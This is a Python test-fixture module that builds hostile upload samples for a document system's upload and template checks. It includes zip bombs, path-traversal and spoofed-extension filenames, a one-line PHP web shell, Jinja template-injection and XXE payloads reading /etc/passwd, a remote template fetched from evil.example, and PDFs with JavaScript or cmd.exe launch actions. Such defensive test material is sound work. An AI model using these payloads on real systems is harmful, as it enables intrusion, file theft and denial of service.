"""Files that strangers send to harm: made here, small to keep, large or active once opened."""

from __future__ import annotations

import io
import zipfile
import zlib

from jiefen.papers.word_defaults import default_template
from kit import samples
from kit.hostile_files import HOSTILE, HTML, ZIP

ZEROS = b"0" * 40_000_000
BOMB = samples.zipped({"0": ZEROS})
NESTED = samples.zipped({f"{n}.zip": BOMB for n in range(16)})
MANY = samples.zipped({f"word/{n}": b"" for n in range(20_000)}, method=zipfile.ZIP_STORED)


def word(**parts: bytes) -> bytes:
    """A true template with parts put in or changed; `__` for `/`."""
    more = {name.replace("__", "/"): content for name, content in parts.items()}
    with zipfile.ZipFile(io.BytesIO(default_template("agreement"))) as old:
        return samples.zipped({name: old.read(name) for name in old.namelist()} | more)


def with_text(text: str) -> bytes:
    """A true template with one more paragraph."""
    with zipfile.ZipFile(io.BytesIO(default_template("agreement"))) as old:
        document = old.read("word/document.xml")
    paragraph = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>".encode()
    return word(**{"word__document.xml": document.replace(b"</w:body>", paragraph)})


def pdf(more: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog" + more + b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def lying_zip() -> bytes:
    """A document that says it is small and is not."""
    content = bytearray(samples.docx(word__media__a=b"0" * 5_000_000))
    size = (5_000_000).to_bytes(4, "little")
    return bytes(content.replace(size, (100).to_bytes(4, "little")))


# Refused wherever they are sent.
REFUSED: list[tuple[str, bytes]] = [
    *HOSTILE,
    ("42.zip", BOMB), ("42.docx", BOMB), ("42.pdf", BOMB), ("nested.zip", NESTED), ("nested.docx", NESTED),
    ("many.docx", MANY), ("many.xlsx", MANY), ("lying.docx", lying_zip()), ("bomb.xlsx", samples.xlsx(xl__sheet=ZEROS)),
    ("bomb.docx", word(**{"word__document.xml": ZEROS})), ("deep.docx", samples.docx(word__inner=NESTED, word__media__a=ZEROS)),
    ("zlib.png", zlib.compress(ZEROS)), ("a.svgz", zlib.compress(b"<svg/>")), ("svg.pdf", b"<svg/>" + samples.PDF),
    ("a.xhtml", HTML), ("a.mht", HTML), ("a.hta", HTML), ("a.js", b"alert(1)"), (".user.ini", b"auto_prepend_file=a"),
    ("a.php.pdf", b"<?php system($_GET[0]); ?>"), ("a.pdf.php", samples.PDF), ("a.jpg.svg", b"<svg/>"),
    ("签字\u202efdp.scr", samples.PDF), ("../../a.sh", b"#!/bin/sh\n"), ("..\\..\\a.bat", b"@echo"),
    ("x" * 300, samples.PDF), ("长" * 300 + ".exe", b"MZ"), ("empty.docx", b""), ("empty.jpg", b""),
    ("a.docm", samples.docx()), ("a.dotm", samples.docx()), ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500),
    ("macro.docx", word(**{"word__vbaProject.bin": b"x"})), ("activex.docx", word(**{"word__activeX__activeX1.bin": b"x"})),
    ("ole.docx", word(**{"word__embeddings__oleObject1.bin": b"x"})), ("climb.docx", word(**{"..__..__etc__cron.d__x": b"x"})),
    ("remote.docx", word(**{"word___rels__settings.xml.rels": samples.relation("attachedTemplate", "http://evil.example/t.dotm")})),
    ("rtf.docx", b"{\\rtf1 {\\object}}"), ("a.lnk", b"L\0\0\0"),
]  # fmt: skip

# Harmless as files that are only kept and never opened by us, harmful as templates.
AS_TEMPLATES: list[tuple[str, bytes]] = [
    ("class.docx", with_text("{{ ''.__class__.__mro__ }}")), ("call.docx", with_text("{{ range(99) }}")),
    ("include.docx", with_text("{% include '/etc/passwd' %}")), ("macro-code.docx", with_text("{% macro a() %}{% endmacro %}")),
    ("set.docx", with_text("{% set a = 1 %}")), ("attr.docx", with_text("{{ parties|attr('__class__') }}")),
    ("loops.docx", with_text("{% for a in parties %}" * 9 + "x" + "{% endfor %}" * 9)),
    ("entity.docx", word(**{"word__document.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'})),
    ("field.docx", word(**{"word__footer9.xml": b'<w:ftr><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:ftr>'})),
    ("image.docx", word(**{"word___rels__footer9.xml.rels": samples.relation("image", "http://evil.example/a.png")})),
]  # fmt: skip

# Kept as they came, and handed out as nothing but a file to be saved: what acts in them acts in no page of ours.
KEPT: list[tuple[str, bytes]] = [
    ("js.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    ("embedded.pdf", pdf(b"/Names<</EmbeddedFiles<</Names[(a.exe)2 0 R]>>>>")),
    ("encrypted.pdf", pdf(b"/Encrypt 2 0 R")),
    ("launch.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    ("../../../证据.pdf", samples.PDF), ("C:\\证据\\a.pdf", samples.PDF), ("长" * 300 + ".pdf", samples.PDF),
    ("照片\u202ejpg.pdf", samples.PDF), ("gps.jpg", samples.picture("JPEG", gps=True)),
    ("tail.jpg", samples.picture("JPEG") + ZIP),
]  # fmt: skip
